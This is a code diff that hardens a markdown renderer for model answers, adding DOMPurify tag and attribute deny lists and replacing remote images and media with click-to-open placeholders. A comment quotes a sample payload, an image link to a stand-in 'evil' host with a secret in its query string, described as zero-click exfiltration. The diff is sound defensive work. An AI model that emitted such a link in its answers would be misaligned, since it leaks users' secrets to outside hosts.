@@ -78,14 +78,86 @@ export function markdownBlocks(src: string, prev: ParsedMarkdown | null = null):
   return { src, blocks: lexFrom(src, 0) };
 }
 
+/**
+ * Elements that make the browser fetch, frame or submit something as soon as they render: a model
+ * answer must never make the page call out (`![x](https://evil/p.png?leak=SECRET)` is zero-click
+ * exfiltration). Images get a visible placeholder instead (below); the rest is dropped. The page CSP
+ * (server/security-headers.ts) is the second wall.
+ */
+const FORBID_TAGS = ['style', 'link', 'meta', 'base', 'form', 'button', 'input', 'iframe', 'frame', 'frameset', 'object', 'embed', 'portal', 'video', 'audio', 'source', 'track', 'picture'];
+/** Attributes that fetch (`srcset`, `poster`, `background`, `style` with url(), `ping`) or submit. */
+const FORBID_ATTR = ['style', 'srcset', 'sizes', 'poster', 'background', 'ping', 'action', 'formaction', 'lowsrc', 'dynsrc', 'longdesc', 'imagesrcset', 'imagesizes', 'xlink:href'];
+const SANITIZE_CONFIG = { USE_PROFILES: { html: true }, FORBID_TAGS, FORBID_ATTR };
+
+const httpUrl = (src: string, base: string): URL | null => {
+  try {
+    const u = new URL(src, base);
+    return u.protocol === 'http:' || u.protocol === 'https:' ? u : null;
+  } catch {
+    return null;
+  }
+};
+
+/** An image the browser may load: inline `data:image/…`, or our own origin (same scheme, host and port). */
+export function imageSourceAllowed(src: string, pageUrl: string): boolean {
+  if (/^data:image\//i.test(src.trim())) return true;
+  const u = httpUrl(src, pageUrl);
+  return u !== null && u.origin === new URL(pageUrl).origin;
+}
+
+const MAX_SHOWN_URL = 500;
+
+/**
+ * What a remote image (or video, audio) shows instead: its URL, as a link that opens in a new tab
+ * without opener or referrer, so nothing is fetched unless the user asks for it. Built in the
+ * sanitizer's inert document; only http(s) URLs become links.
+ */
+function remotePlaceholder(doc: Document, kind: string, src: string, alt: string, insideLink = false): HTMLElement {
+  // Inside a link (a badge), a nested link would not survive the HTML parser: plain text, the outer link stays.
+  const url = insideLink ? null : httpUrl(src, window.location.href);
+  const el = doc.createElement(url ? 'a' : 'span');
+  el.className = 'md-remote-media';
+  if (url) {
+    el.setAttribute('href', url.href);
+    el.setAttribute('target', '_blank');
+    el.setAttribute('rel', 'noopener noreferrer nofollow');
+  }
+  el.setAttribute('title', `Remote ${kind.toLowerCase()} not loaded: answers never fetch from other sites.${url ? ' Click to open it in a new tab.' : ''}`);
+  const shown = url?.href ?? httpUrl(src, window.location.href)?.href ?? src;
+  const label = alt.trim() ? `${kind} not loaded: ${alt.trim()}` : `${kind} not loaded`;
+  el.textContent = `[${label}] ${shown.length > MAX_SHOWN_URL ? `${shown.slice(0, MAX_SHOWN_URL)}…` : shown}`;
+  return el;
+}
+
 const purify = typeof window === 'undefined' ? null : DOMPurify(window);
 if (purify) {
-  // Links from a model open in a new tab and never get the opener.
+  // <video>/<audio> are dropped whole (with their <source>s); leave a placeholder naming what they wanted.
+  purify.addHook('uponSanitizeElement', (node, data) => {
+    if ((data.tagName !== 'video' && data.tagName !== 'audio') || node.nodeType !== 1) return;
+    const el = node as Element;
+    const kind = data.tagName === 'video' ? 'Video' : 'Audio';
+    const urls = [el.getAttribute('src'), el.getAttribute('poster'), ...Array.from(el.querySelectorAll('source[src]'), (s) => s.getAttribute('src'))];
+    for (const src of new Set(urls.filter((u): u is string => !!u && u.trim() !== ''))) {
+      el.parentNode?.insertBefore(remotePlaceholder(el.ownerDocument, kind, src, ''), el);
+      el.parentNode?.insertBefore(el.ownerDocument.createTextNode(' '), el);
+    }
+  });
   purify.addHook('afterSanitizeAttributes', (node) => {
+    // Links from a model open in a new tab and never get the opener.
     if (node.tagName === 'A') {
       node.setAttribute('target', '_blank');
       node.setAttribute('rel', 'noopener noreferrer nofollow');
+      return;
     }
+    if (node.tagName === 'IMG') {
+      const src = node.getAttribute('src') ?? '';
+      if (src.trim() !== '' && imageSourceAllowed(src, window.location.href)) return;
+      if (src.trim() === '') return void node.remove();
+      node.replaceWith(remotePlaceholder(node.ownerDocument, 'Image', src, node.getAttribute('alt') ?? '', node.closest('a') !== null));
+      return;
+    }
+    // Belt and braces: nothing but a vetted <img> keeps a src.
+    if (node.hasAttribute('src')) node.removeAttribute('src');
   });
 }
 
@@ -93,5 +165,5 @@ if (purify) {
 export function renderBlock(block: MarkdownBlock): string {
   if (!purify) return `<p>${escapeHtml(block.raw)}</p>`;
   const html = marked.parser([block.token]);
-  return purify.sanitize(html, { USE_PROFILES: { html: true }, FORBID_TAGS: ['style', 'form', 'button', 'iframe'], FORBID_ATTR: ['style'] });
+  return purify.sanitize(html, SANITIZE_CONFIG);
 }
